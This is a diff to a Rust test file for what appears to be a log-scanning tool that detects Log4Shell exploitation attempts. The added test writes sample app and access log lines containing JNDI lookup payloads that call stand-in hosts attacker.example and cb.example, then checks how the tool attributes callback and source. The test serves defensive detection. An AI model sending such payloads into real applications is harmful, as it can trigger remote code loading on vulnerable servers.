@@ -237,6 +237,33 @@ fn the_true_chain_behind_the_decoys() {
     assert!(live.iter().any(|l| l.as_str().unwrap().contains("203.0.113.9:9001")), "{verdict:#}");
 }
 
+/// An application log line carrying a lookup names no sender and no status: the story says
+/// where the payload would call (never "from" that server) and claims no more than a sighting.
+#[test]
+fn a_lookup_without_a_sender_is_told_by_its_callback() {
+    let dir = tempfile::tempdir().unwrap();
+    write_files(
+        dir.path(),
+        &[
+            ("app.log", b"2021-12-11 10:00:00 [MyApp] - Contains ${jndi:ldap://attacker.example/a}\n"),
+            (
+                "access.log",
+                b"203.0.113.9 - - [11/Dec/2021:10:00:01 +0000] \"GET /?q=${jndi:ldap://cb.example/x} HTTP/1.1\" 200 12 \"-\" \"curl\"\n",
+            ),
+        ],
+    );
+    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
+    validate_against_schema(&v);
+    let b = &v["bundles"][0];
+    let why = b["verdicts"][0]["reason"].as_str().unwrap();
+    assert!(why.contains("with callback to attacker.example (nothing in the evidence followed"), "{why}");
+    assert!(!why.contains("from attacker.example"), "{why}");
+    assert!(why.contains("from 203.0.113.9 (answered 200, but nothing in the evidence followed"), "{why}");
+    let attempts = b["attempts"].as_array().unwrap();
+    let app = attempts.iter().find(|a| a["source"] == "attacker.example").unwrap();
+    assert_eq!(app["source_role"], "callback");
+}
+
 #[test]
 fn a_documentation_tree_is_no_attack() {
     let dir = tempfile::tempdir().unwrap();
